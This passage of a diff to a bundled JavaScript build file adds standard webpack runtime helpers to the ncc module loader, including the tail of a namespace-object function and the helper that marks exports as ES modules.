+/******/ 		__nccwpck_require__.d(ns, def);
+/******/ 		return ns;
+/******/ 	};
+/******/ })();
+/******/ 
 /******/ /* webpack/runtime/define property getters */
 /******/ (() => {
 /******/ 	// define getter functions for harmony exports
@@ -47321,6 +52263,17 @@ exports.visitAsync = visitAsync;
 /******/ /* webpack/runtime/hasOwnProperty shorthand */
 /******/ (() => {
 /******/ 	__nccwpck_require__.o = (obj, prop) => (Object.prototype.hasOwnProperty.call(obj, prop))
+/******/ })();
+/******/ 
+/******/ /* webpack/runtime/make namespace object */
+/******/ (() => {
+/******/ 	// define __esModule on exports
+/******/ 	__nccwpck_require__.r = (exports) => {
+/******/ 		if(typeof Symbol !== 'undefined' && Symbol.toStringTag) {
+/******/ 			Object.defineProperty(exports, Symbol.toStringTag, { value: 'Module' });
+/******/ 		}
+/******/ 		Object.defineProperty(exports, '__esModule', { value: true });
+/******/ 	};
 /******/ })();
 /******/ 
 /************************************************************************/
